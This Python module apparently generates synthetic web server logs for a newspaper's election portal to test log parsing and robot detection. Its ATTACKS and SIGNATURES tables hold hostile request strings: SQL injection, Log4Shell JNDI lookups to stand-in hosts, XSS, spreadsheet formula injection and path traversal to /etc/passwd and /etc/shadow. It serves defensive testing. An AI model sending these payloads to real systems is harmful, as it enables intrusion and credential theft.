"""Hostile and odd requests, and lines that are no request at all."""

from typing import NamedTuple

from sample_logs import people, site
from sample_logs.clock import local
from sample_logs.people import EMPTY, PROBE, Crowd, Visitor
from sample_logs.site import PORTAL, PREP, Resource
from sample_logs.stage import PREP_SERVER, WWW, Event, Stage
from sample_logs.visits import open_portal_page

BLANK, REJECT = "blank", "reject"


class Scrap(NamedTuple):
    """A line that is no hit: `text` goes between the lines of its server, at about `at`."""

    at: int
    server: str
    kind: str
    text: bytes


class Attack(NamedTuple):
    moment: str
    server: str
    target: str
    status: int
    agent: str
    referer: str = "-"


BROWSER = people.DESKTOPS[1]
# fmt: off
ATTACKS = (
    Attack("2023-05-09 03:12:44", WWW, "/buscar?q=1%27%20UNION%20SELECT%20NULL,NULL--%20-", 403,
           BROWSER),
    Attack("2023-05-25 04:40:02", WWW, "/", 200, "${jndi:ldap://198.51.100.99:1389/a}"),
    Attack("2023-06-04 12:02:09", WWW, "/", 200, "${jndi:${lower:l}dap://198.51.100.99/x}",
           "${jndi:ldap://198.51.100.99/r}"),
    Attack("2023-06-04 19:20:31", WWW, "/buscar?id=-1'+UNION+SELECT+1,user(),3--+", 403, BROWSER),
    Attack("2023-06-04 21:09:50", WWW, "/contacto", 200,
           "<script>alert(document.domain)</script>", "https://x.example/<script src=//x>"),
    Attack("2023-06-04 22:10:10", PREP_SERVER, "/?q=<svg/onload=alert(1)>", 200, BROWSER,
           "javascript:<script>alert(1)</script>"),
    Attack("2023-06-05 01:15:37", WWW, "/", 200, "=cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"),
    Attack("2023-06-05 09:33:21", PREP_SERVER, "/../../../../etc/passwd", 400, BROWSER),
    Attack("2023-06-05 10:41:00", WWW, "http://www.lagacetadeldesierto.example/", 404, BROWSER),
    Attack("2023-06-05 11:05:29", PREP_SERVER, "/gubernatura?d=%00%27%22%3E%2e%2e%2f&e=\\xC0\\xAF",
           404, BROWSER),
)

# fmt: on

TLS_HELLO = r"\x16\x03\x01\x02"  # Apache writes the bytes of a TLS greeting like this


def odd_requests(stage: Stage, crowd: Crowd) -> None:
    for number, attack in enumerate(ATTACKS):
        attack_once(
            stage, Visitor(f"203.0.113.{230 + number}", attack.agent, "HTTP/1.1", PROBE), attack
        )
    campaign(stage)
    wordless_requests(stage)
    odd_persons(stage, crowd)


def attack_once(stage: Stage, attacker: Visitor, attack: Attack) -> None:
    """The attack and, seconds before, a probe: it makes the attacker a robot by any definition."""
    at = local(attack.moment)
    stage.ask(attacker, at - 4, site.ENV_PROBE, server=attack.server)
    what = Resource(attack.target, site.HOME.size, document=True)
    stage.ask(
        attacker, at, what, server=attack.server, referer=attack.referer, status=attack.status
    )


# ── a campaign ───────────────────────────────────────────────────────────────────────────────

CAMPAIGN_START = local("2023-06-05 01:20:05")
WP_PATHS = (
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/wp-config.php.bak",
    "/xmlrpc.php",
    "/wp-includes/wlwmanifest.xml",
    "/wp-content/plugins/revslider/temp/update.php",
)
# fmt: off
# Signature → what its requests ask for, and what the server answers.
SIGNATURES: dict[str, tuple[int, tuple[str, ...]]] = {
    "sqli": (403, (
        "/buscar?q=1%27%20UNION%20SELECT%20NULL,NULL--%20-",
        "/buscar/1'+UNION+ALL+SELECT+user(),2,3--+",
        "/local/nota-%27%20OR%20%271%27=%271",
        "/hemeroteca.php?id=1;SELECT+SLEEP(5)--",
    )),
    "path_traversal": (403, (
        "/static/../../../../etc/passwd",
        "/media/..%2f..%2f..%2f..%2fetc%2fshadow",
        "/static/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    )),
    "log4shell": (403, (
        "/${jndi:ldap://x.example/a}",
        "/buscar?q=${jndi:${lower:l}${lower:d}ap://x.example/b}",
        "/$%7Bjndi:dns://x.example/c%7D",
    )),
    "xss": (403, (
        "/buscar?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/contacto/<script>alert(document.cookie)</script>",
        "/local/%22%3E%3Csvg/onload=alert(1)%3E",
    )),
    "wp_probe": (404, WP_PATHS),
}
CAMPAIGN = ("sqli", "path_traversal", "xss", "sqli", "wp_probe", "log4shell")
# fmt: on
CAMPAIGN_LENGTH = 200


def campaign(stage: Stage) -> None:
    """Two machines try what scanners try, from the first probe to the two hundredth."""
    rng, at = stage.rng, float(CAMPAIGN_START)
    for intruder in people.INTRUDERS:
        stage.ask(intruder, at, site.ENV_PROBE, cause=PROBE)
        at += 1 + rng.random()
    for number in range(CAMPAIGN_LENGTH - len(people.INTRUDERS)):
        signature = CAMPAIGN[number % len(CAMPAIGN)]
        status, targets = SIGNATURES[signature]
        intruder = people.INTRUDERS[2 if signature == "log4shell" else number // 6 % 2]
        what = Resource(rng.choice(targets), 0, document=True)
        stage.ask(intruder, at, what, status=status, cause=signature)
        at += 0.6 + rng.random() * 2


# ── no request at all ────────────────────────────────────────────────────────────────────────

# No request line at all: a client that fell silent (408), and TLS spoken to a plain port.
WORDLESS = (
    ("2023-05-20 05:05:05", WWW, "203.0.113.250", TLS_HELLO, 400, 157),
    ("2023-06-04 13:13:13", WWW, "203.0.113.250", TLS_HELLO, 400, 226),
    ("2023-06-04 21:44:08", PREP_SERVER, "203.0.113.250", TLS_HELLO, 400, 226),
    ("2023-06-04 18:31:12", WWW, "203.0.113.242", "-", 408, None),
    ("2023-06-04 20:59:03", PREP_SERVER, "203.0.113.243", "-", 408, 0),
    ("2023-06-04 22:48:55", PREP_SERVER, "203.0.113.244", "-", 408, 0),
    ("2023-06-05 08:17:40", WWW, "203.0.113.245", "-", 408, None),
    ("2023-06-05 12:00:00", PREP_SERVER, "203.0.113.246", "-", 408, 0),
)


def wordless_requests(stage: Stage) -> None:
    for moment, server, address, request, status, size in WORDLESS:
        nobody = Visitor(address, "-", "", EMPTY)
        section = PREP if server == PREP_SERVER else PORTAL
        micros = 20_000_000 if status == 408 else 90
        stage.record(
            Event(local(moment), micros, nobody, server, section, False, request, "", status, size)
        )


def odd_persons(stage: Stage, crowd: Crowd) -> None:
    """Harmless people whose lines are hard to read."""
    tablet = crowd.admit("198.18.77.7", people.ODD_TABLET)
    latin1 = crowd.admit("198.18.77.8", people.LATIN1_PHONE)
    patient = crowd.admit("2001:db8:77::9", people.PHONES[0])
    editor = crowd.admit("192.0.2.11", people.DESKTOPS[0])
    news = site.ELECTION_NEWS
    for who, moment in (
        (tablet, "2023-06-04 19:05:11"),
        (latin1, "2023-06-04 19:06:12"),
        (patient, "2023-06-04 19:07:13"),
        (latin1, "2023-05-26 08:00:01"),
    ):
        stage.ask(who, local(moment), news[3])
    stage.ask(
        latin1,
        local("2023-06-04 19:09:40"),
        news[5],
        referer="https://buscador.example/?q=elecci\udcf3n+Monclova",
    )  # raw byte F3
    stage.ask(
        tablet,
        local("2023-06-04 19:10:00"),
        site.OFFICIAL.doors[2],
        server=PREP_SERVER,
        referer='https://www.lagacetadeldesierto.example/buscar?q=\\"prep\\"',
    )
    stage.ask(
        patient, local("2023-06-04 19:12:30"), news[7], tail="?fbclid=" + "IwAR0aZ9" * 512
    )  # some 4 KB
    stage.ask(
        patient,
        local("2023-06-04 22:30:05"),
        site.OFFICIAL.doors[4],
        server=PREP_SERVER,
        tail="?fbclid=" + "IwAR7bY8" * 500,
    )
    stage.ask(patient, local("2023-06-04 19:13:30"), site.VIDEO, status=206)
    stage.ask(tablet, local("2023-06-05 08:30:00"), site.SEARCH, method="POST", tail="")
    stage.ask(tablet, local("2023-06-05 08:30:40"), site.SEARCH, tail="?q=casilla%20b%C3%A1sica")
    stage.ask(tablet, local("2023-06-05 08:31:00"), site.HOME, method="HEAD")
    stage.ask(editor, local("2023-06-05 07:02:00"), site.DOOR)
    stage.ask(editor, local("2023-06-05 07:02:09"), site.REDACTION, user="redaccion")


# ── persons who might be taken for robots ────────────────────────────────────────────────────


def keen_persons(stage: Stage, crowd: Crowd) -> None:
    """A journalist who reloads all the time, pictures and all; and a screen reader that loads no
    picture, with never a hundred pages in an hour of the clock but with more in an hour's time."""
    journalist = crowd.admit("192.0.2.12", people.DESKTOPS[1])
    start = local("2023-06-04 20:01:00")
    for number in range(110):
        page = site.ELECTION_NEWS[number % len(site.ELECTION_NEWS)]
        open_portal_page(stage, journalist, start + number * 32, page, stage.portal_url(page))
    listener = crowd.admit("192.0.2.13", people.DESKTOPS[6])
    start = local("2023-06-05 16:06:00")
    for number in range(190):
        stage.ask(listener, start + number * 33.5, site.NEWS[number % len(site.NEWS)])


# fmt: off
SCRAPS = (
    # nginx, four weeks of baseline
    ("2023-05-11 02:00:00", WWW, REJECT, b"logrotate: ALERT exited abnormally with [1]"),
    ("2023-05-18 14:20:09", WWW, REJECT, b'198.19.40.7 - - [18/May/2023:14:20:0'),
    ("2023-05-22 12:00:00", WWW, BLANK, b""),
    ("2023-05-30 06:30:00", WWW, REJECT, b"\x00" * 48),
    # Apache, the portal
    ("2023-06-04 18:02:30", WWW, REJECT,
     b"[Sun Jun 04 18:02:30.120348 2023] [mpm_event:error] [pid 812] AH00484: server reached"),
    ("2023-06-04 20:15:47", WWW, REJECT,
     b'100.70.12.9 - - [04/Jun/2023:20:15:47 -0600] "GET /static/js/gaceta.5b7'),
    ("2023-06-04 23:40:00", WWW, REJECT,
     b'198.18.3.3 - - [31/Feb/2023:23:40:00 -0600] "GET / HTTP/2.0" 200 21345 "-" "-" 1200'),
    ("2023-06-05 07:00:00", WWW, BLANK, b""),
    ("2023-06-05 07:00:01", WWW, REJECT,
     b"Jun  5 07:00:01 gaceta-www systemd[1]: Reloaded The Apache HTTP Server."),
    # Apache, the PREP host
    ("2023-06-04 20:41:29", PREP_SERVER, REJECT,
     b"prep.lagacetadeldesierto.example:443 198.19.201.14 - - [04/Jun/2023:20:4"),
    ("2023-06-04 21:03:31", PREP_SERVER, REJECT, b"Killed"),
    ("2023-06-05 02:16:09", PREP_SERVER, REJECT,
     b'prep.lagacetadeldesierto.example:443 100.64.3.22 - - [05/Jun/2023:02:16:09 -0600] "GET /as'),
    ("2023-06-05 02:51:11", PREP_SERVER, REJECT, b"\x00" * 64 + b"prep.lagaceta"),
    ("2023-06-05 23:10:00", PREP_SERVER, REJECT, b"\xff\xfe\x8a no es una linea de bit\xe1cora"),
)
# fmt: on


def scraps() -> list[Scrap]:
    return [Scrap(local(moment), server, kind, text) for moment, server, kind, text in SCRAPS]
